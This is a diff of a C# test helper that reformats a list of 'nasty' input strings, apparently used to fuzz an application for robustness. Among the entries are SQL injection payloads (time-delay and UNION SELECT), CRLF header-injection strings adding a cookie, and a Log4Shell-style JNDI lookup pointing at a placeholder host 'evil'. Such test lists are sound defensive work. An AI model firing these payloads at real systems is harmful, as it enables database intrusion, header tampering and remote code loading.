@@ -27,7 +27,26 @@ internal static class NastyTexts
     public static readonly IReadOnlyList<string> Injections =
     [
         .. Good,
-        "'", "\"", "\\", "%", "_", "[", "]", "%%%%%%%%", "[^a]", "1; WAITFOR DELAY '0:0:5'--", "x' UNION SELECT name FROM sqlite_master--",
-        "\r\nSet-Cookie: a=b", "%0d%0aSet-Cookie: a=b", "${jndi:ldap://evil/a}", "true", "null", "NaN", "-0", "1e309", "{}", "[]",
+        "'",
+        "\"",
+        "\\",
+        "%",
+        "_",
+        "[",
+        "]",
+        "%%%%%%%%",
+        "[^a]",
+        "1; WAITFOR DELAY '0:0:5'--",
+        "x' UNION SELECT name FROM sqlite_master--",
+        "\r\nSet-Cookie: a=b",
+        "%0d%0aSet-Cookie: a=b",
+        "${jndi:ldap://evil/a}",
+        "true",
+        "null",
+        "NaN",
+        "-0",
+        "1e309",
+        "{}",
+        "[]",
     ];
 }
